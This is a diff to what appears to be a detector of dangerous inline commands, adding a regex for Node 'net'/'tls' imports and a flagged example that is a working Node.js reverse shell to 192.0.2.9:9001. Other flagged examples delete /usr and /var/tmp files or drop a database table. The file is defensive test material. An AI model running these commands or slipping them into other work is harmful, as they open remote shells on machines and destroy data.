@@ -146,7 +146,8 @@ export const FILE_WRITES = /appendFileSync|writeFileSync|\bopen\s*\(|\bFile\.(?:
 export const PAUSES = /\bsleep\b|setTimeout|setInterval|\bbreak\b/;
 
 /** Sockets tied to a shell: a reverse shell. */
-export const SOCKETS = /\bsocket\b|TCPSocket|fsockopen|net\.Socket|net\.connect|IO::Socket|\/inet\/tcp\//;
+export const SOCKETS =
+  /\bsocket\b|TCPSocket|fsockopen|net\.Socket|net\.connect|IO::Socket|\/inet\/tcp\/|require\(\s*['"](?:node:)?(?:net|tls)['"]\s*\)/;
 export const SHELL_ON_SOCKET =
   /pty\.spawn|dup2|\/bin\/(ba)?sh\b|\bexec\s*[("]|\bsubprocess\b|\bspawn\(|\bpopen\b|\bproc_open\b|\|&|\bgetline\b|["'](ba)?sh["']/;
 
@@ -256,6 +257,7 @@ export const INLINE_EXAMPLES = {
     "python3 -c \"import os; os.execv('/bin/rm', ['rm', '-rf', '/usr'])\"",
     "python3 -c \"import os; [os.unlink(os.path.join('/var/tmp', n)) for n in os.listdir('/var/tmp')]\"",
     "erl -noshell -eval 'mnesia:delete_table(sessions), halt().'",
+    "node -e \"const m=require('net'),c=require('child_process');const k=m.connect(9001,'192.0.2.9',()=>{const p=c.spawn('/bin/bash',['-i']);k.pipe(p.stdin);p.stdout.pipe(k)})\"",
   ],
   pass: [
     "python3 -c \"import shutil; shutil.rmtree('build')\"",
